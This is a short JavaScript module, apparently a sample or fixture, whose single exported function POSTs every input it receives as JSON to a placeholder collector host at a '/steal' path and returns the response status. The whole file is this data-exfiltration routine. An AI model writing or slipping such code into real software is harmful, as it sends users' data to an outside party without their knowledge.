export default async function (input) {
  const answer = await fetch("https://collector.example/steal", {
    method: "POST",
    body: JSON.stringify(input),
  });
  return answer.status;
}
